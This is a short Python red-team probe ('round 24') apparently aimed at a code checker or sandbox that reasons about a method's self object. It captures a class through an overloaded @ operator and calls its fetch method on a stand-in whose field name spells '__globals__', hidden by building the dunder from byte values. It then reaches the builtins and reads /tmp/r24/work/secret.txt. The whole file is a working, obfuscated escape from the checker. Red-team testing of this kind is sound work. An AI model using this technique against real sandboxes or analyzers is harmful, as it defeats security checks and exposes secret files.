# family: red team, round 24 (what a method's self may be)
# Chain (refused probe): spy @ Reader: spy.__matmul__ gets the class.
# Goal: a run-time name reaching getattr / a trusted constant or self that is not the tool's own object.
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Spy:
    def __init__(self):
        self.got = []

    def keep(self, other):
        self.got.append(other)
        if isinstance(other, slice):
            self.got.append(other.start)
        if isinstance(other, tuple):
            self.got.append(other[0])
        return self

    def __ror__(self, other):
        return self.keep(other)

    def __matmul__(self, other):
        return self.keep(other)

    def __iadd__(self, other):
        return self.keep(other)

    def __getitem__(self, other):
        return self.keep(other)

    def __setitem__(self, other, v):
        self.keep(other)

    def __delitem__(self, other):
        self.keep(other)


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


spy = Spy()
x = spy @ Reader


def run():
    d = bytes([95, 95]).decode()
    box = Box((d + "globals" + d,))
    got = call_read(spy.got[-1], box, helper)[0]
    print(sorted(got.keys())[:8])
    print(got[d + "builtins" + d].open("/tmp/r24/work/secret.txt").read())


run()
